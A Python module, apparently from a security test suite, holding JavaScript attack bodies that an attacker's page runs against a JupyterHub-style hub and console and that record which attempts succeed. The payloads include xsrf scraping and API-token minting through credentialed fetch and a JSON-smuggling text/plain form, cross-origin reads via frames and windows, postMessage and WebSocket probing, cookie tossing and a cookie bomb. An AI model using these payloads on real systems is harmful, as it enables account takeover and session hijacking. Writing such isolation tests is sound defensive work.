"""What the attacker's pages do, as bodies of async functions; each returns what came of every try."""

from __future__ import annotations

# `tries` names a work; what it read, or why it read nothing, stands under that name in `results`.
_TRIES = """
const results = {};
const tries = async (name, work) => {
    const late = new Promise((_, fail) => setTimeout(() => fail(new Error('too late')), 4000));
    try { results[name] = 'read ' + await Promise.race([work(), late]); }
    catch (error) { results[name] = `nothing: ${error.name} ${error.message}`; }
};
const loads = (element, address) => new Promise((done, fail) => {
    element.onload = () => done(element);
    element.onerror = () => fail(new Error('error'));
    element[element.tagName == 'LINK' ? 'href' : 'src'] = address;
    document.documentElement.append(element);
});
const framed = async (address) => {
    const frame = await loads(document.createElement('iframe'), address);
    await new Promise((done) => setTimeout(done, 500));
    const read = frame.contentDocument.documentElement.innerHTML;
    frame.remove();
    return read;
};
const windowed = async (address) => {
    const other = window.open(address);
    try {
        for (let tries = 0; tries < 20; tries++) {
            await new Promise((done) => setTimeout(done, 100));
            if (other.closed) throw new Error('severed');
            if (other.location.href != 'about:blank' && other.document.readyState == 'complete') {
                return other.document.documentElement.innerHTML;
            }
        }
        throw new Error('never there');
    } finally { other.close(); }
};
const sent = (address, fields) => {
    const form = document.createElement('form');
    const frame = document.createElement('iframe');
    frame.name = 'answer' + Math.random();
    Object.assign(form, {method: 'POST', action: address, target: frame.name, enctype: 'text/plain'});
    for (const [name, value] of Object.entries(fields)) {
        const input = document.createElement('input');
        Object.assign(input, {name, value});
        form.append(input);
    }
    document.documentElement.append(frame, form);
    form.submit();
    return new Promise((done) => setTimeout(() => done('sent'), 1000));
};
const text = async (address, more) => (await fetch(address, {credentials: 'include', ...more})).text();
const posted = {method: 'POST', credentials: 'include', body: '{"note": "stolen"}'};
"""

# Of `user` at `hub`: the Hub's pages and API, the console's; and a token of the API, which is all of it.
TAKE_OVER = (
    _TRIES
    + """
await tries('page of the Hub', () => text(`${hub}/hub/home`));
const xsrf = ((results['page of the Hub'].match(/xsrf_token: "([^"]+)"/)) || ['', ''])[1];
const tokens = `${hub}/hub/api/users/${user}/tokens?_xsrf=${encodeURIComponent(xsrf)}`;
await tries('API of the Hub', () => text(`${hub}/hub/api/user?_xsrf=${encodeURIComponent(xsrf)}`));
await tries('a token', () => text(tokens, {...posted, headers: {'Content-Type': 'application/json'}}));
const token = ((results['a token'].match(/"token": "([^"]+)"/)) || ['', ''])[1];
const sessions = `${hub}/services/console/api/v1/sessions`;
await tries('API of the console', () => text(sessions, {headers: {Authorization: `token ${token}`}}));
await tries('API of the console by cookie', () => text(sessions));
await tries('a token, unread', () => text(tokens, {...posted, mode: 'no-cors'}));
await tries('a token by a form', () => sent(tokens, {'{"note": "stolen", "x': 'y"}'}));
await tries('console', () => text(`${hub}/services/console/`));
await tries('Hub in a frame', () => framed(`${hub}/hub/home`));
await tries('console in a frame', () => framed(`${hub}/services/console/`));
await tries('Hub in a window', () => windowed(`${hub}/hub/home`));
await tries('console in a window', () => windowed(`${hub}/services/console/`));
return results;
"""
)

# Another server at `target`: read it, and have it do something.
REACH = (
    _TRIES
    + """
await tries('fetch', () => text(`${target}secret`));
await tries('post', () => text(`${target}by-fetch`, posted));
await tries('post, unread', () => text(`${target}by-fetch-unread`, {...posted, mode: 'no-cors'}));
await tries('beacon', async () => navigator.sendBeacon(`${target}by-beacon`, 'x'));
await tries('form', () => sent(`${target}by-form`, {x: 'y'}));
await tries('frame', () => framed(`${target}in-frame`));
await tries('window', () => windowed(`${target}in-window`));
await tries('script', () => loads(document.createElement('script'), `${target}as-script`));
await tries('picture', () => loads(new Image(), `${target}as-picture`));
const style = Object.assign(document.createElement('link'), {rel: 'stylesheet'});
await tries('style', () => loads(style, `${target}as-style`));
return results;
"""
)

# A window of `target`, which is told something: what it answers, or what can be read of it.
MESSAGE = (
    _TRIES
    + """
await tries('answer', () => new Promise((done, fail) => {
    const other = window.open(target);
    window.addEventListener('message', (event) => done(event.data));
    const asking = setInterval(() => other.postMessage('what do you know?', '*'), 100);
    setTimeout(() => { clearInterval(asking); other.close(); fail(new Error('silence')); }, 2000);
}));
return results.answer;
"""
)

# A WebSocket to `target`: its first message.
CHANNEL = (
    _TRIES
    + """
await tries('channel', () => new Promise((done, fail) => {
    document.addEventListener('securitypolicyviolation', (event) => {
        if (event.blockedURI.startsWith('ws')) fail(new Error('forbidden'));
    });
    const socket = new WebSocket(target);
    socket.onmessage = (event) => { done(event.data); socket.close(); };
    socket.onclose = () => fail(new Error('closed'));
}));
return results.channel;
"""
)

# A service worker of the program `code` for `scope`: the scope that it got.
WORKER = (
    _TRIES
    + """
await tries('worker', async () => {
    const registration = await navigator.serviceWorker.register(code, {scope});
    const got = new URL(registration.scope).pathname;
    await registration.unregister();
    return got;
});
return results.worker;
"""
)

# Cookies under all `names`, for this host and for the one above it, whatever the path.
TOSS = """
for (const [name, value] of Object.entries(names)) {
    for (const domain of ['', `; Domain=${location.hostname}`, `; Domain=${parent}`]) {
        for (const path of ['/', '/hub/', '/hub/home', '/services/console/', ...paths]) {
            document.cookie = `${name}=${value}; Path=${path}${domain}; Max-Age=86400`;
            document.cookie = `__Host-${name}=${value}; Path=${path}${domain}; Secure`;
        }
    }
}
"""

# So many cookies of so many letters, for a year, for `domain` and all names below it.
FILL = """
for (let number = 0; number < count; number++) {
    document.cookie = `filled${number}=${'x'.repeat(letters)}; Path=/; Max-Age=31536000; Domain=${domain}`;
}
return document.cookie.length;
"""
